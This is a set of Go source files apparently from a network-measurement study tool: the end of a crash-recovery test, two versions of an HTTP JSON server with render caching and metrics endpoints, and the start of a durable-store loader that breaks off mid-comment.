		t.Fatal(err)
	}
	if _, _, err := eng.IngestNext(); err != nil {
		t.Fatal(err)
	}

	fsys.SyncHook = func(string) error { return errInjected }
	p, ok, err := eng.IngestNext()
	if !errors.Is(err, errInjected) {
		t.Fatalf("persist failure surfaced as %v", err)
	}
	if p != 2 || !ok {
		t.Fatalf("p=%d ok=%v after persist failure; in-memory ingest should stand", p, ok)
	}
	if _, err := eng.Snapshot(2); err != nil {
		t.Errorf("published snapshot unavailable after persist failure: %v", err)
	}
	fsys.SyncHook = nil
	fsys.Crash()

	// Restart sees only the acknowledged prefix.
	eng2, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if got := eng2.Ingested(); got != 1 {
		t.Fatalf("rehydrated to %d, want the acknowledged 1", got)
	}
}

// TestConcurrentIngestAndRecoveryReads hammers a recovered engine
// with concurrent ingests, snapshot reads, and sweeps — the -race
// target for the durability path.
func TestConcurrentIngestAndRecoveryReads(t *testing.T) {
	const epochs = 4
	cfg := Config{Study: testStudyConfig(42, 2021), Epochs: epochs}
	fsys := store.NewMemFS()
	eng, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := eng.IngestNext(); err != nil {
		t.Fatal(err)
	}
	fsys.Crash()
	eng2, err := Open(cfg, openTestStore(t, fsys))
	if err != nil {
		t.Fatal(err)
	}
	if !eng2.Recovered() {
		t.Fatal("not recovered")
	}

	var wg sync.WaitGroup
	wg.Add(3)
	go func() {
		defer wg.Done()
		if err := eng2.IngestAll(); err != nil {
			t.Error(err)
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < 50; i++ {
			n := eng2.Ingested()
			if n == 0 {
				continue
			}
			if _, err := eng2.Snapshot(n); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	go func() {
		defer wg.Done()
		for i := 0; i < 5; i++ {
			if eng2.Ingested() == 0 {
				continue
			}
			if _, err := eng2.Sweep(SweepRequest{KMin: 1, KMax: 2}); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	wg.Wait()
	if got := eng2.Ingested(); got != epochs {
		t.Fatalf("ingested %d of %d", got, epochs)
	}
}
