package stream

import (
	"container/list"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/pprof"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"cloudwatch/internal/core"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/scanners"
)

// Server-level observability: render-cache behavior (hits cost a map
// probe, misses cost a table render), singleflight dedup (requests
// that waited on an in-flight render instead of duplicating it), and
// handler panics. Per-route request counts and latency live in
// obs.HTTPMiddleware, which Handler wraps around the mux.
var (
	mRenderHits = obs.Default().Counter("stream_render_cache_hits_total",
		"Snapshot render requests served from the render cache.")
	mRenderMisses = obs.Default().Counter("stream_render_cache_misses_total",
		"Snapshot render requests that rendered (cache miss).")
	mRenderEvictions = obs.Default().Counter("stream_render_cache_evictions_total",
		"Renders evicted from the LRU-bounded render cache.")
	mRenderEntries = obs.Default().Gauge("stream_render_cache_entries",
		"Renders currently cached.")
	mRenderCap = obs.Default().Gauge("stream_render_cache_cap",
		"Render cache capacity (entries).")
	mSingleflight = obs.Default().Counter("stream_singleflight_dedup_total",
		"Requests that waited on another request's in-flight render.")
	mPanics = obs.Default().Counter("http_panics_total",
		"Handler panics converted to JSON 500s by the recovery middleware.")
)

// Server exposes a streaming study over HTTP as JSON: ingestion state,
// per-epoch snapshot renders, and K/prefix sweeps. Rendered experiment
// output is cached per (epoch prefix, experiment) — snapshots are
// immutable, so a cached render never goes stale — which is what lets
// the server absorb heavy repeated read traffic.
//
//	GET  /healthz                            liveness (always 200)
//	GET  /readyz                             readiness (engine attached, ≥1 epoch)
//	GET  /v1/status                          ingestion state + epoch windows
//	GET  /v1/snapshot/{prefix}/{experiment}  one rendered table/figure
//	GET  /v1/sweep?tables=&kmin=&kmax=&prefixes=   a sweep grid
//	POST /v1/ingest                          ingest the next epoch
//
// The engine may be attached after the listener is already up
// (SetEngine): generation and store recovery take seconds to minutes,
// and binding the port first lets /healthz answer immediately while
// /readyz and the API report 503 until the study is ready.
type Server struct {
	eng atomic.Pointer[Engine]

	// sweepDefaults seeds /v1/sweep requests; absent query parameters
	// fall back to these (then to the engine's own defaults). Set
	// before serving — not synchronized with request handling.
	sweepDefaults SweepRequest

	// render produces one experiment's output; it is
	// core.RenderExperiment except in tests, which swap it to count
	// renders or inject panics.
	render func(s *core.Study, experiment string) (string, bool)

	// cacheCap bounds the render cache (entries, not bytes); set
	// before serving via SetRenderCacheCap.
	cacheCap int

	// logger receives one structured line per request from the
	// request-logging middleware (SetLogger to replace; defaults to a
	// text handler on stderr).
	logger *slog.Logger

	// pprofOn exposes net/http/pprof under /debug/pprof/ when set
	// before Handler is called (EnablePprof; the CLI's -pprof flag).
	pprofOn bool

	mu      sync.Mutex
	renders map[renderKey]*renderEntry
	lru     *list.List // *renderEntry, most recently touched at front
}

// DefaultRenderCacheCap bounds the render cache when
// SetRenderCacheCap is not called: generous next to the default
// 8-epoch × 12-experiment grid, small next to a hostile or
// long-sweeping client.
const DefaultRenderCacheCap = 256

type renderKey struct {
	prefix     int
	experiment string
}

// renderEntry is one cached render in singleflight form: the first
// request for a key installs the entry and renders; concurrent
// requests for the same key find it and wait on ready instead of
// duplicating the work. If the render panics, failed is set before
// ready closes and the entry is evicted so a later request retries.
type renderEntry struct {
	key    renderKey
	elem   *list.Element
	ready  chan struct{} // closed once out or failed is set
	out    string
	failed bool
}

// NewServer wraps an engine. A nil engine is allowed — handlers
// return 503 until SetEngine attaches one.
func NewServer(eng *Engine) *Server {
	s := &Server{
		render:   core.RenderExperiment,
		cacheCap: DefaultRenderCacheCap,
		logger:   slog.New(slog.NewTextHandler(os.Stderr, nil)),
		renders:  map[renderKey]*renderEntry{},
		lru:      list.New(),
	}
	mRenderCap.Set(int64(s.cacheCap))
	if eng != nil {
		s.eng.Store(eng)
	}
	return s
}

// SetLogger replaces the request logger (nil silences request logging
// while keeping the request metrics). Call before serving.
func (s *Server) SetLogger(l *slog.Logger) { s.logger = l }

// EnablePprof mounts net/http/pprof under /debug/pprof/ on the next
// Handler call — opt-in, because profiling endpoints on a public
// listener are an operator decision (the CLI's -pprof flag).
func (s *Server) EnablePprof() { s.pprofOn = true }

// SetEngine attaches (or replaces) the engine. Safe to call while the
// server is already accepting requests: handlers observe the swap
// atomically.
func (s *Server) SetEngine(eng *Engine) { s.eng.Store(eng) }

// Engine returns the wrapped engine, or nil before SetEngine (the
// ingestion loop drives it directly).
func (s *Server) Engine() *Engine { return s.eng.Load() }

// SetRenderCacheCap bounds the per-(prefix, experiment) render cache
// to n entries, evicting least-recently-used renders beyond it. Call
// before serving.
func (s *Server) SetRenderCacheCap(n int) {
	if n >= 1 {
		s.cacheCap = n
		mRenderCap.Set(int64(n))
	}
}

// renderCacheStats reports the render cache's occupancy and capacity.
func (s *Server) renderCacheStats() (entries, capacity int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.renders), s.cacheCap
}

// SetSweepDefaults installs the sweep parameters /v1/sweep uses when a
// request omits the corresponding query parameter (the CLI's
// -sweep-* flags in serve mode). Call before serving.
func (s *Server) SetSweepDefaults(req SweepRequest) { s.sweepDefaults = req }

// Handler returns the HTTP handler serving the API, wrapped in the
// panic-recovery middleware (a panicking handler answers a JSON 500
// instead of tearing down the connection) and the request
// observability middleware (per-route request counts and latency, the
// in-flight gauge, and one structured log line per request — the log
// middleware sits outside recovery, so panics log as the 500s they
// answered). The observability endpoints are never engine-gated:
// metrics and traces must be scrapable while the study is still
// generating or recovering.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /healthz", s.handleHealthz)
	mux.HandleFunc("GET /readyz", s.handleReadyz)
	mux.HandleFunc("GET /metrics", s.handleMetricsProm)
	mux.HandleFunc("GET /v1/metrics", s.handleMetricsJSON)
	mux.HandleFunc("GET /v1/trace", s.handleTrace)
	mux.HandleFunc("GET /v1/status", s.engineHandler(s.handleStatus))
	mux.HandleFunc("GET /v1/snapshot/{prefix}/{experiment}", s.engineHandler(s.handleSnapshot))
	mux.HandleFunc("GET /v1/sweep", s.engineHandler(s.handleSweep))
	mux.HandleFunc("POST /v1/ingest", s.engineHandler(s.handleIngest))
	if s.pprofOn {
		mux.HandleFunc("/debug/pprof/", pprof.Index)
		mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
		mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
		mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
		mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	}
	return obs.HTTPMiddleware(s.logger, s.withRecovery(mux))
}

// engineHandler gates a handler on engine attachment: before
// SetEngine, the API answers 503 so clients can tell "still starting"
// from "bad request".
func (s *Server) engineHandler(h func(eng *Engine, w http.ResponseWriter, r *http.Request)) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		eng := s.eng.Load()
		if eng == nil {
			writeError(w, http.StatusServiceUnavailable, "study is still being generated or recovered; retry shortly")
			return
		}
		h(eng, w, r)
	}
}

// withRecovery converts handler panics into JSON 500 responses. If
// the handler had already written its header the late WriteHeader is
// a no-op (net/http logs it), but the connection survives either way.
func (s *Server) withRecovery(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		defer func() {
			if v := recover(); v != nil {
				mPanics.Inc()
				writeError(w, http.StatusInternalServerError, fmt.Sprintf("internal error: %v", v))
			}
		}()
		next.ServeHTTP(w, r)
	})
}

// handleHealthz is pure liveness: the process is up and serving.
func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, map[string]string{"status": "ok"})
}

// handleMetricsProm serves the process-wide metrics registry in the
// Prometheus text exposition format.
func (s *Server) handleMetricsProm(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	_ = obs.Default().WritePrometheus(w)
}

// handleMetricsJSON serves the same registry as JSON, with
// interpolated p50/p99 on every histogram.
func (s *Server) handleMetricsJSON(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, obs.Default().Snapshot())
}

// traceResponse is the GET /v1/trace body: the all-time per-stage
// breakdown plus the ring of most recent spans.
type traceResponse struct {
	Capacity   int                `json:"capacity"`
	TotalSpans uint64             `json:"total_spans"`
	Stages     []obs.StageSummary `json:"stages"`
	Recent     []obs.SpanRecord   `json:"recent"`
}

func (s *Server) handleTrace(w http.ResponseWriter, r *http.Request) {
	t := obs.DefaultTracer()
	writeJSON(w, http.StatusOK, traceResponse{
		Capacity:   t.Capacity(),
		TotalSpans: t.Total(),
		Stages:     t.Summary(),
		Recent:     t.Recent(),
	})
}

// cacheStats is the occupancy/capacity pair /v1/status and /readyz
// report for the render cache and the snapshot LRU.
type cacheStats struct {
	Entries int `json:"entries"`
	Cap     int `json:"cap"`
}

// handleReadyz reports readiness to serve study data: an engine is
// attached (store opened, study generated or recovered) and at least
// one epoch is ingested, so every endpoint can answer something.
func (s *Server) handleReadyz(w http.ResponseWriter, r *http.Request) {
	eng := s.eng.Load()
	if eng == nil {
		writeError(w, http.StatusServiceUnavailable, "not ready: study is still being generated or recovered")
		return
	}
	ingested := eng.Ingested()
	if ingested < 1 {
		writeError(w, http.StatusServiceUnavailable, "not ready: no epoch ingested yet")
		return
	}
	rcEntries, rcCap := s.renderCacheStats()
	slEntries, slCap := eng.SnapCacheStats()
	writeJSON(w, http.StatusOK, map[string]any{
		"status":       "ready",
		"version":      obs.Version().String(),
		"scenario":     eng.Scenario(),
		"ingested":     ingested,
		"epochs":       eng.NumEpochs(),
		"recovered":    eng.Recovered(),
		"render_cache": cacheStats{rcEntries, rcCap},
		"snapshot_lru": cacheStats{slEntries, slCap},
	})
}

// statusEpoch is one epoch's row in the status response.
type statusEpoch struct {
	Epoch            int    `json:"epoch"`
	Start            string `json:"start"`
	End              string `json:"end"`
	Records          int    `json:"records"`
	TelescopePackets int    `json:"telescope_packets"`
	Ingested         bool   `json:"ingested"`
}

type statusResponse struct {
	// Version stamps the serving binary (module version + VCS
	// revision), so measurements name what they measured.
	Version  string `json:"version"`
	Year     int    `json:"year"`
	Seed     int64  `json:"seed"`
	Epochs   int    `json:"epochs"`
	Ingested int    `json:"ingested"`
	Scenario string `json:"scenario"` // the scenario this engine serves
	// ScenarioDescription is the registered one-liner of the active
	// scenario; Scenarios lists every registered id (what -scenario
	// and the scenario query parameter accept).
	ScenarioDescription string        `json:"scenario_description"`
	Scenarios           []string      `json:"scenarios"`
	Experiments         []string      `json:"experiments"`
	SweepTables         []string      `json:"sweep_tables"`
	RenderCache         cacheStats    `json:"render_cache"`
	SnapshotLRU         cacheStats    `json:"snapshot_lru"`
	EpochList           []statusEpoch `json:"epoch_list"`
}

func (s *Server) handleStatus(eng *Engine, w http.ResponseWriter, r *http.Request) {
	cfg := eng.es.Config()
	ingested := eng.Ingested()
	rcEntries, rcCap := s.renderCacheStats()
	slEntries, slCap := eng.SnapCacheStats()
	resp := statusResponse{
		Version:             obs.Version().String(),
		Year:                cfg.Year,
		Seed:                cfg.Seed,
		Epochs:              eng.NumEpochs(),
		Ingested:            ingested,
		Scenario:            eng.Scenario(),
		ScenarioDescription: scanners.ScenarioDescription(eng.Scenario()),
		Scenarios:           scanners.Scenarios(),
		Experiments:         core.ExperimentNames(),
		SweepTables:         core.SweepTables(),
		RenderCache:         cacheStats{rcEntries, rcCap},
		SnapshotLRU:         cacheStats{slEntries, slCap},
	}
	for e := 0; e < eng.NumEpochs(); e++ {
		start, end := eng.Window(e)
		resp.EpochList = append(resp.EpochList, statusEpoch{
			Epoch:            e,
			Start:            start.UTC().Format(time.RFC3339),
			End:              end.UTC().Format(time.RFC3339),
			Records:          eng.EpochRecords(e),
			TelescopePackets: eng.EpochTelescopePackets(e),
			Ingested:         e < ingested,
		})
	}
	writeJSON(w, http.StatusOK, resp)
}

// scenarioGuard enforces an optional scenario assertion on a request:
// "" passes (no assertion), an unregistered id 404s with the
// registered ids enumerated, and a registered id this engine does not
// serve 404s naming the active scenario. Reports whether the request
// may proceed.
func (s *Server) scenarioGuard(eng *Engine, w http.ResponseWriter, id string) bool {
	if id == "" {
		return true
	}
	if _, ok := scanners.LookupScenario(id); !ok {
		writeError(w, http.StatusNotFound, fmt.Sprintf("unknown scenario %q; valid: %s",
			id, strings.Join(scanners.Scenarios(), ", ")))
		return false
	}
	if scanners.CanonicalScenario(id) != eng.Scenario() {
		writeError(w, http.StatusNotFound, fmt.Sprintf("scenario %q is not served here (active scenario: %s)",
			id, eng.Scenario()))
		return false
	}
	return true
}

type snapshotResponse struct {
	Scenario   string `json:"scenario"`
	Prefix     int    `json:"prefix"`
	Experiment string `json:"experiment"`
	WindowEnd  string `json:"window_end"`
	Records    int    `json:"records"`
	Cached     bool   `json:"cached"`
	Output     string `json:"output"`
}

func (s *Server) handleSnapshot(eng *Engine, w http.ResponseWriter, r *http.Request) {
	prefix, err := strconv.Atoi(r.PathValue("prefix"))
	if err != nil {
		writeError(w, http.StatusBadRequest, fmt.Sprintf("bad prefix %q: must be an epoch count in 1..%d", r.PathValue("prefix"), eng.NumEpochs()))
		return
	}
	// Validate the experiment before touching the engine: a request
	// that is wrong in both dimensions gets the unknown-experiment
	// answer (with the valid names), not whichever snapshot error
	// happens to fire first.
	experiment := r.PathValue("experiment")
	if !core.KnownExperiment(experiment) {
		writeError(w, http.StatusNotFound, fmt.Sprintf("unknown experiment %q; valid: %s",
			experiment, strings.Join(core.ExperimentNames(), ", ")))
		return
	}
	// An optional scenario assertion: clients pinned to one scenario
	// pass ?scenario= and get a 404 instead of another world's table if
	// they reach the wrong server.
	if !s.scenarioGuard(eng, w, r.URL.Query().Get("scenario")) {
		return
	}
	snap, err := eng.Snapshot(prefix)
	if err != nil {
		writeError(w, http.StatusNotFound, err.Error())
		return
	}

	// Singleflight per (prefix, experiment): the first request installs
	// the cache entry and renders; concurrent requests for the same key
	// wait for that one render instead of duplicating it. Only the
	// request that actually rendered reports cached=false. The cache is
	// LRU-bounded (SetRenderCacheCap); an evicted key simply re-renders
	// on its next request.
	key := renderKey{prefix, experiment}
	s.mu.Lock()
	ent, cached := s.renders[key]
	if cached {
		mRenderHits.Inc()
		s.lru.MoveToFront(ent.elem)
	} else {
		mRenderMisses.Inc()
		ent = &renderEntry{key: key, ready: make(chan struct{})}
		ent.elem = s.lru.PushFront(ent)
		s.renders[key] = ent
		for len(s.renders) > s.cacheCap {
			oldest := s.lru.Back()
			evicted := oldest.Value.(*renderEntry)
			s.lru.Remove(oldest)
			delete(s.renders, evicted.key)
			mRenderEvictions.Inc()
		}
		mRenderEntries.Set(int64(len(s.renders)))
	}
	s.mu.Unlock()
	if cached {
		// A hit whose entry is still rendering means this request is
		// deduplicated onto an in-flight render — the singleflight win —
		// as opposed to a settled entry served from memory. The
		// non-blocking probe distinguishes the two.
		select {
		case <-ent.ready:
		default:
			mSingleflight.Inc()
		}
		<-ent.ready
		if ent.failed {
			writeError(w, http.StatusInternalServerError, "render failed; retry")
			return
		}
	} else {
		// If the render panics, release the waiters and evict the entry
		// before the panic unwinds into the recovery middleware — a
		// never-closed ready channel would hang every later request for
		// this key forever.
		done := false
		defer func() {
			if done {
				return
			}
			ent.failed = true
			close(ent.ready)
			s.mu.Lock()
			if s.renders[key] == ent { // don't evict a successor entry
				s.lru.Remove(ent.elem)
				delete(s.renders, key)
				mRenderEntries.Set(int64(len(s.renders)))
			}
			s.mu.Unlock()
		}()
		ent.out, _ = s.render(snap, experiment) // name validated above
		done = true
		close(ent.ready)
	}
	out := ent.out

	_, end := eng.Window(prefix - 1)
	writeJSON(w, http.StatusOK, snapshotResponse{
		Scenario:   eng.Scenario(),
		Prefix:     prefix,
		Experiment: experiment,
		WindowEnd:  end.UTC().Format(time.RFC3339),
		Records:    snap.NumRecords(),
		Cached:     cached,
		Output:     out,
	})
}

func (s *Server) handleSweep(eng *Engine, w http.ResponseWriter, r *http.Request) {
	req := s.sweepDefaults
	q := r.URL.Query()
	if v := q.Get("tables"); v != "" {
		// Trim whitespace and skip empty parts, matching the CLI's
		// -sweep-tables parsing: "table2, table5" and trailing commas
		// are fine; a list of only empty parts falls back to the
		// defaults like an absent parameter.
		var tables []string
		for _, part := range strings.Split(v, ",") {
			if part = strings.TrimSpace(part); part != "" {
				tables = append(tables, part)
			}
		}
		if len(tables) > 0 {
			req.Tables = tables
		}
	}
	var err error
	if req.KMin, err = intParam(q.Get("kmin"), req.KMin); err != nil {
		writeError(w, http.StatusBadRequest, "bad kmin: "+err.Error())
		return
	}
	if req.KMax, err = intParam(q.Get("kmax"), req.KMax); err != nil {
		writeError(w, http.StatusBadRequest, "bad kmax: "+err.Error())
		return
	}
	if v := q.Get("prefixes"); v != "" {
		req.Prefixes = nil
		for _, part := range strings.Split(v, ",") {
			p, err := strconv.Atoi(strings.TrimSpace(part))
			if err != nil {
				writeError(w, http.StatusBadRequest, fmt.Sprintf("bad prefix %q in prefixes", part))
				return
			}
			req.Prefixes = append(req.Prefixes, p)
		}
	}
	// The scenario axis ("scenario" and "scenarios" are synonyms):
	// absent means the engine's own scenario; unknown or not-served
	// values fail inside Sweep's normalization with the registered
	// (resp. active) ids enumerated.
	if v := q.Get("scenarios") + "," + q.Get("scenario"); strings.Trim(v, ", \t") != "" {
		req.Scenarios = nil
		for _, part := range strings.Split(v, ",") {
			if part = strings.TrimSpace(part); part != "" {
				req.Scenarios = append(req.Scenarios, part)
			}
		}
	}
	res, err := eng.Sweep(req)
	if err != nil {
		writeError(w, http.StatusBadRequest, err.Error())
		return
	}
	writeJSON(w, http.StatusOK, res)
}

type ingestResponse struct {
	Prefix   int  `json:"prefix"`
	Done     bool `json:"done"` // true when every epoch was already ingested
	Records  int  `json:"records"`
	Ingested int  `json:"ingested"`
	Epochs   int  `json:"epochs"`
}

func (s *Server) handleIngest(eng *Engine, w http.ResponseWriter, r *http.Request) {
	prefix, ok, err := eng.IngestNext()
	if err != nil {
		writeError(w, http.StatusInternalServerError, err.Error())
		return
	}
	resp := ingestResponse{
		Prefix:   prefix,
		Done:     !ok,
		Ingested: eng.Ingested(),
		Epochs:   eng.NumEpochs(),
	}
	if ok {
		resp.Records = eng.EpochRecords(prefix - 1)
	}
	writeJSON(w, http.StatusOK, resp)
}

func intParam(v string, def int) (int, error) {
	if v == "" {
		return def, nil
	}
	return strconv.Atoi(v)
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

type errorResponse struct {
	Error string `json:"error"`
}

func writeError(w http.ResponseWriter, status int, msg string) {
	writeJSON(w, status, errorResponse{Error: msg})
}
