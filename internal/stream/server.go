package stream

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"cloudwatch/internal/core"
)

// Server exposes a streaming study over HTTP as JSON: ingestion state,
// per-epoch snapshot renders, and K/prefix sweeps. Rendered experiment
// output is cached per (epoch prefix, experiment) — snapshots are
// immutable, so a cached render never goes stale — which is what lets
// the server absorb heavy repeated read traffic.
//
//	GET  /v1/status                          ingestion state + epoch windows
//	GET  /v1/snapshot/{prefix}/{experiment}  one rendered table/figure
//	GET  /v1/sweep?tables=&kmin=&kmax=&prefixes=   a sweep grid
//	POST /v1/ingest                          ingest the next epoch
type Server struct {
	eng *Engine

	// sweepDefaults seeds /v1/sweep requests; absent query parameters
	// fall back to these (then to the engine's own defaults). Set
	// before serving — not synchronized with request handling.
	sweepDefaults SweepRequest

	// render produces one experiment's output; it is
	// core.RenderExperiment except in tests, which swap it to count
	// renders.
	render func(s *core.Study, experiment string) (string, bool)

	mu      sync.Mutex
	renders map[renderKey]*renderEntry
}

type renderKey struct {
	prefix     int
	experiment string
}

// renderEntry is one cached render in singleflight form: the first
// request for a key installs the entry and renders; concurrent
// requests for the same key find it and wait on ready instead of
// duplicating the work.
type renderEntry struct {
	ready chan struct{} // closed once out is set
	out   string
}

// NewServer wraps an engine.
func NewServer(eng *Engine) *Server {
	return &Server{eng: eng, render: core.RenderExperiment, renders: map[renderKey]*renderEntry{}}
}

// Engine returns the wrapped engine (the ingestion loop drives it
// directly).
func (s *Server) Engine() *Engine { return s.eng }

// SetSweepDefaults installs the sweep parameters /v1/sweep uses when a
// request omits the corresponding query parameter (the CLI's
// -sweep-* flags in serve mode). Call before serving.
func (s *Server) SetSweepDefaults(req SweepRequest) { s.sweepDefaults = req }

// Handler returns the HTTP handler serving the API.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /v1/status", s.handleStatus)
	mux.HandleFunc("GET /v1/snapshot/{prefix}/{experiment}", s.handleSnapshot)
	mux.HandleFunc("GET /v1/sweep", s.handleSweep)
	mux.HandleFunc("POST /v1/ingest", s.handleIngest)
	return mux
}

// statusEpoch is one epoch's row in the status response.
type statusEpoch struct {
	Epoch            int    `json:"epoch"`
	Start            string `json:"start"`
	End              string `json:"end"`
	Records          int    `json:"records"`
	TelescopePackets int    `json:"telescope_packets"`
	Ingested         bool   `json:"ingested"`
}

type statusResponse struct {
	Year        int           `json:"year"`
	Seed        int64         `json:"seed"`
	Epochs      int           `json:"epochs"`
	Ingested    int           `json:"ingested"`
	Experiments []string      `json:"experiments"`
	SweepTables []string      `json:"sweep_tables"`
	EpochList   []statusEpoch `json:"epoch_list"`
}

func (s *Server) handleStatus(w http.ResponseWriter, r *http.Request) {
	cfg := s.eng.es.Config()
	ingested := s.eng.Ingested()
	resp := statusResponse{
		Year:        cfg.Year,
		Seed:        cfg.Seed,
		Epochs:      s.eng.NumEpochs(),
		Ingested:    ingested,
		Experiments: core.ExperimentNames(),
		SweepTables: core.SweepTables(),
	}
	for e := 0; e < s.eng.NumEpochs(); e++ {
		start, end := s.eng.Window(e)
		resp.EpochList = append(resp.EpochList, statusEpoch{
			Epoch:            e,
			Start:            start.UTC().Format(time.RFC3339),
			End:              end.UTC().Format(time.RFC3339),
			Records:          s.eng.EpochRecords(e),
			TelescopePackets: s.eng.EpochTelescopePackets(e),
			Ingested:         e < ingested,
		})
	}
	writeJSON(w, http.StatusOK, resp)
}

type snapshotResponse struct {
	Prefix     int    `json:"prefix"`
	Experiment string `json:"experiment"`
	WindowEnd  string `json:"window_end"`
	Records    int    `json:"records"`
	Cached     bool   `json:"cached"`
	Output     string `json:"output"`
}

func (s *Server) handleSnapshot(w http.ResponseWriter, r *http.Request) {
	prefix, err := strconv.Atoi(r.PathValue("prefix"))
	if err != nil {
		writeError(w, http.StatusBadRequest, fmt.Sprintf("bad prefix %q: must be an epoch count in 1..%d", r.PathValue("prefix"), s.eng.NumEpochs()))
		return
	}
	// Validate the experiment before touching the engine: a request
	// that is wrong in both dimensions gets the unknown-experiment
	// answer (with the valid names), not whichever snapshot error
	// happens to fire first.
	experiment := r.PathValue("experiment")
	if !core.KnownExperiment(experiment) {
		writeError(w, http.StatusNotFound, fmt.Sprintf("unknown experiment %q; valid: %s",
			experiment, strings.Join(core.ExperimentNames(), ", ")))
		return
	}
	snap, err := s.eng.Snapshot(prefix)
	if err != nil {
		writeError(w, http.StatusNotFound, err.Error())
		return
	}

	// Singleflight per (prefix, experiment): the first request installs
	// the cache entry and renders; concurrent requests for the same key
	// wait for that one render instead of duplicating it. Only the
	// request that actually rendered reports cached=false.
	key := renderKey{prefix, experiment}
	s.mu.Lock()
	ent, cached := s.renders[key]
	if !cached {
		ent = &renderEntry{ready: make(chan struct{})}
		s.renders[key] = ent
	}
	s.mu.Unlock()
	if cached {
		<-ent.ready
	} else {
		ent.out, _ = s.render(snap, experiment) // name validated above
		close(ent.ready)
	}
	out := ent.out

	_, end := s.eng.Window(prefix - 1)
	writeJSON(w, http.StatusOK, snapshotResponse{
		Prefix:     prefix,
		Experiment: experiment,
		WindowEnd:  end.UTC().Format(time.RFC3339),
		Records:    snap.NumRecords(),
		Cached:     cached,
		Output:     out,
	})
}

func (s *Server) handleSweep(w http.ResponseWriter, r *http.Request) {
	req := s.sweepDefaults
	q := r.URL.Query()
	if v := q.Get("tables"); v != "" {
		// Trim whitespace and skip empty parts, matching the CLI's
		// -sweep-tables parsing: "table2, table5" and trailing commas
		// are fine; a list of only empty parts falls back to the
		// defaults like an absent parameter.
		var tables []string
		for _, part := range strings.Split(v, ",") {
			if part = strings.TrimSpace(part); part != "" {
				tables = append(tables, part)
			}
		}
		if len(tables) > 0 {
			req.Tables = tables
		}
	}
	var err error
	if req.KMin, err = intParam(q.Get("kmin"), req.KMin); err != nil {
		writeError(w, http.StatusBadRequest, "bad kmin: "+err.Error())
		return
	}
	if req.KMax, err = intParam(q.Get("kmax"), req.KMax); err != nil {
		writeError(w, http.StatusBadRequest, "bad kmax: "+err.Error())
		return
	}
	if v := q.Get("prefixes"); v != "" {
		req.Prefixes = nil
		for _, part := range strings.Split(v, ",") {
			p, err := strconv.Atoi(strings.TrimSpace(part))
			if err != nil {
				writeError(w, http.StatusBadRequest, fmt.Sprintf("bad prefix %q in prefixes", part))
				return
			}
			req.Prefixes = append(req.Prefixes, p)
		}
	}
	res, err := s.eng.Sweep(req)
	if err != nil {
		writeError(w, http.StatusBadRequest, err.Error())
		return
	}
	writeJSON(w, http.StatusOK, res)
}

type ingestResponse struct {
	Prefix   int  `json:"prefix"`
	Done     bool `json:"done"` // true when every epoch was already ingested
	Records  int  `json:"records"`
	Ingested int  `json:"ingested"`
	Epochs   int  `json:"epochs"`
}

func (s *Server) handleIngest(w http.ResponseWriter, r *http.Request) {
	prefix, ok, err := s.eng.IngestNext()
	if err != nil {
		writeError(w, http.StatusInternalServerError, err.Error())
		return
	}
	resp := ingestResponse{
		Prefix:   prefix,
		Done:     !ok,
		Ingested: s.eng.Ingested(),
		Epochs:   s.eng.NumEpochs(),
	}
	if ok {
		resp.Records = s.eng.EpochRecords(prefix - 1)
	}
	writeJSON(w, http.StatusOK, resp)
}

func intParam(v string, def int) (int, error) {
	if v == "" {
		return def, nil
	}
	return strconv.Atoi(v)
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

type errorResponse struct {
	Error string `json:"error"`
}

func writeError(w http.ResponseWriter, status int, msg string) {
	writeJSON(w, status, errorResponse{Error: msg})
}
