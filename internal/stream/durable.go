package stream

import (
	"bytes"
	"encoding/json"
	"fmt"

	"cloudwatch/internal/core"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/store"
)

// Open builds an engine backed by a durable store. If the store holds
// a complete study generated under the same configuration, generation
// is skipped entirely and the persisted material is restored (the
// cold-start win); otherwise the study is generated deterministically
// and the segment rewritten. Either way the engine then re-ingests up
// to the store's manifest cursor, so a restarted process resumes
// serving exactly the prefix it had acknowledged before the crash —
// and, generation being deterministic, every snapshot it serves is
// byte-identical to one from a process that never crashed.
//
// A store whose config does not match is an error, not a rewrite:
// silently discarding a persisted study over a flag typo would be
// worse than asking the operator to delete the directory.
func Open(cfg Config, st *store.Store) (*Engine, error) {
	cfgJSON, epochs, err := normalizedConfigJSON(cfg)
	if err != nil {
		return nil, err
	}
	var es *core.EpochSet
	recovered := false
	if prevJSON, m := st.Recovered(); m != nil {
		if !bytes.Equal(prevJSON, cfgJSON) {
			return nil, fmt.Errorf("stream: store holds a different study (stored config %s); delete the store directory or match its configuration", prevJSON)
		}
		// A restore failure despite a matching config means the decoded
